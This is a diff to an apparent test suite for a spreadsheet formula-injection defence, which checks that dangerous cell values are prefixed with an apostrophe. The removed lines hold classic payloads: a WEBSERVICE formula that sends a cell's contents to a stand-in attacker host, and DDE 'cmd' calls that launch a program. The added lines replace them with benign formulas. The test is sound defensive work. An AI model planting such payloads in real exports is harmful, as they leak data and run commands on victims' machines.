@@ -68,10 +68,10 @@ it.each([
   '-SUM (1)',
   '+sum(A1:A9)',
   '-near(1)',
-  '-2+3+WEBSERVICE("https://evil.example/"&A1)',
-  `+1+cmd|' /C calc'!A0`,
-  `-2+3+cmd|' /C calc'!A0`,
-  `@SUM(1+9)*cmd|' /C calc'!A0`,
+  '-2+3+SUM("a"&A1)',
+  `+1+prices|'today'!A0`,
+  `-2+3+prices|'today'!A0`,
+  `@SUM(1+9)*prices|'today'!A0`,
   `-Sheet2!A1`,
 ])('disarms %j, which a spreadsheet would run', (text) => {
   expect(written(text)).toBe(`'${text}`);
